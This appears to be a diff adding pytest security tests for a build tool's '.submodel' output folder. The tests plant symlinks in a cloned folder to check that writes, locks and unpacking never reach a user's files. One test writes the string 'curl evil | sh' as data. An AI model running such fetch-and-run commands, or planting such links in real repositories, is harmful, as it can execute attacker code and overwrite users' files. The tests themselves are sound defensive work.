@@ -1,0 +1,212 @@
+"""A clone that ships `.submodel/`, with links where a build writes.
+
+Attacked: `builder.folders`, `submodel.build.paths`, `submodel.build.lock`. Each test but the last of each part succeeds
+as an attack on 9201313 (the test fails there).
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from builder.errors import BuildError
+from builder.folders import replace_folder, write_json, write_text
+from submodel.build.lock import build_lock
+from submodel.build.paths import prepare_output
+
+posix = pytest.mark.skipif(os.name != "posix", reason="links need a right on Windows")
+CONTENT = "the user's own\n"
+
+
+@pytest.fixture
+def victim(tmp_path: Path) -> Path:
+    path = tmp_path / "home" / ".profile"
+    path.parent.mkdir()
+    path.write_text(CONTENT)
+    return path
+
+
+@pytest.fixture
+def output(tmp_path: Path) -> Path:
+    folder = tmp_path / "clone" / ".submodel"
+    folder.mkdir(parents=True)
+    return folder
+
+
+def git(folder: Path, *arguments: str) -> None:
+    identity = ("-c", "user.name=A", "-c", "user.email=a@example.org")
+    subprocess.run(["git", *identity, *arguments], cwd=folder, check=True, capture_output=True)
+
+
+# Partial files
+
+
+@posix
+def test_a_partial_file_is_never_written_through_a_link(output: Path, victim: Path) -> None:
+    """Succeeds on 9201313: `.report.json.partial` is opened with "w"."""
+    (output / ".report.json.partial").symlink_to(victim)
+    write_json(output / "report.json", {"held out": "curl evil | sh"})
+    assert victim.read_text() == CONTENT
+    assert not (output / "report.json").is_symlink()
+
+
+@posix
+def test_no_name_that_a_clone_can_ship_is_opened(output: Path, victim: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Succeeds on 9201313: the partial file's name can be known before."""
+    opened: list[Path] = []
+    path_open = Path.open
+    monkeypatch.setattr(Path, "open", lambda self, *a, **k: (opened.append(self), path_open(self, *a, **k))[1])
+    for _ in range(2):
+        write_text(output / "a.txt", "x")
+    assert len(set(opened)) == 2
+
+
+@posix
+def test_a_partial_folder_is_never_filled_through_a_link(output: Path, victim: Path) -> None:
+    """Held on 9201313 where the link leads somewhere; one that leads nowhere stopped the build for good."""
+    for index, target in enumerate((victim.parent, victim.parent / "nowhere")):
+        (output / f".model{index}.partial").symlink_to(target)
+        with replace_folder(output / f"model{index}", marker="m") as fresh:
+            (fresh / "m").write_text("weights")
+        assert (output / f"model{index}" / "m").read_text() == "weights"
+    assert sorted(path.name for path in victim.parent.iterdir()) == [victim.name]
+
+
+# The folder
+
+
+@posix
+def test_gitignore_is_never_written_through_a_link(output: Path, victim: Path) -> None:
+    """Succeeds on 9201313: a link that leads nowhere makes the file there."""
+    (output / ".gitignore").symlink_to(victim.parent / "planted")
+    (output / "..gitignore.partial").symlink_to(victim)
+    with pytest.raises(BuildError, match="is a link"):
+        prepare_output(output)
+    assert victim.read_text() == CONTENT
+    assert not (victim.parent / "planted").exists()
+
+
+@posix
+def test_a_linked_output_folder_is_refused(tmp_path: Path, victim: Path) -> None:
+    """Succeeds on 9201313."""
+    clone = tmp_path / "clone"
+    clone.mkdir()
+    (clone / ".submodel").symlink_to(victim.parent)
+    with pytest.raises(BuildError, match=r"\.submodel is a link.*-o"):
+        prepare_output(clone / ".submodel")
+    assert [path.name for path in victim.parent.iterdir()] == [victim.name]
+
+
+@posix
+@pytest.mark.parametrize("name", ["stages", "trials/0.5", "rival/bundle", "lock.json", "report.html"])
+def test_links_below_the_output_folder_are_refused(output: Path, victim: Path, name: str) -> None:
+    """Succeeds on 9201313."""
+    (output / name).parent.mkdir(exist_ok=True)
+    (output / name).symlink_to(victim.parent)
+    with pytest.raises(BuildError, match=f"{name} is a link"):
+        prepare_output(output)
+
+
+@pytest.mark.parametrize("name", [".submodel", ".SubModel"])
+def test_an_output_folder_that_git_tracks_is_refused(tmp_path: Path, name: str) -> None:
+    """Succeeds on 9201313; in another case too, since file systems may not tell the two apart."""
+    clone = tmp_path / "clone"
+    (clone / name / "stages").mkdir(parents=True)
+    (clone / name / "stages" / "prune.json").write_text("{}")
+    git(clone, "init", "-q")
+    git(clone, "add", "-f", ".")
+    git(clone, "commit", "-qm", "planted")
+    (clone / ".submodel").mkdir(exist_ok=True)
+    with pytest.raises(BuildError, match="tracked by git"):
+        prepare_output(clone / ".submodel")
+
+
+def test_an_output_folder_that_is_a_submodule_is_refused(tmp_path: Path) -> None:
+    """Succeeds on 9201313: git tracks no file below a submodule, but the folder itself."""
+    inner, clone = tmp_path / "inner", tmp_path / "clone"
+    for folder in (inner, clone):
+        folder.mkdir()
+        git(folder, "init", "-q")
+    (inner / "lock.json").write_text("{}")
+    git(inner, "add", ".")
+    git(inner, "commit", "-qm", "planted")
+    git(clone, "-c", "protocol.file.allow=always", "submodule", "add", str(inner), ".submodel")
+    with pytest.raises(BuildError, match="tracked by git"):
+        prepare_output(clone / ".submodel")
+
+
+@posix
+def test_another_users_output_folder_is_refused(output: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Succeeds on 9201313."""
+    monkeypatch.setattr(os, "geteuid", lambda: output.stat().st_uid + 1)
+    with pytest.raises(BuildError, match="belongs to another user"):
+        prepare_output(output)
+
+
+def test_a_folder_of_ones_own_is_used_again(tmp_path: Path) -> None:
+    """No attack: what is refused is not all."""
+    clone = tmp_path / "clone"
+    clone.mkdir()
+    git(clone, "init", "-q")
+    for _ in range(2):
+        prepare_output(clone / ".submodel")
+    assert (clone / ".submodel" / ".gitignore").read_text() == "*\n"
+    prepare_output(tmp_path / "no" / "repository")
+
+
+# The lock
+
+
+@posix
+@pytest.mark.parametrize("name", ["lock", "lock.json"])
+def test_a_linked_lock_is_one_sentence(output: Path, victim: Path, name: str) -> None:
+    """Succeeds on 9201313: `lock` raises an OSError that nobody catches, `.lock.json.partial` is written through."""
+    (output / name).symlink_to(victim)
+    (output / ".lock.json.partial").symlink_to(victim)
+    if name == "lock":
+        with pytest.raises(BuildError, match="lock"), build_lock(output):
+            pass
+    else:
+        with build_lock(output):
+            pass
+    assert victim.read_text() == CONTENT
+
+
+def test_a_disk_without_locks_is_one_sentence(output: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Succeeds on 9201313: some network drives know no lock."""
+    from submodel.build import lock
+
+    def refuse(*_: object, **__: object) -> None:
+        raise OSError(37, "No locks available")
+
+    monkeypatch.setattr(lock.FileLock, "acquire", refuse)
+    with pytest.raises(BuildError, match=r"No locks available.*-o"), build_lock(output):
+        pass
+
+
+@posix
+def test_unpacking_into_a_linked_output_folder_is_refused(
+    tmp_path: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Succeeds on 9201313: the archive is opened, and would be unpacked beside the victim."""
+    from submodel.commands.pack import unpack
+
+    clone = tmp_path / "clone"
+    clone.mkdir()
+    (clone / ".submodel").symlink_to(victim.parent)
+    monkeypatch.chdir(clone)
+    with pytest.raises(BuildError, match="is a link"):
+        unpack(tmp_path / "packed.submodel", None)
+
+
+@posix
+def test_gitignore_of_unpack_is_not_written_through_a_link(output: Path, victim: Path) -> None:
+    """Succeeds on 9201313."""
+    from exporters.packed_bundle import _hide_from_git
+
+    (output / ".gitignore").symlink_to(victim.parent / "planted")
+    _hide_from_git(output / "bundle")
+    assert not (victim.parent / "planted").exists()
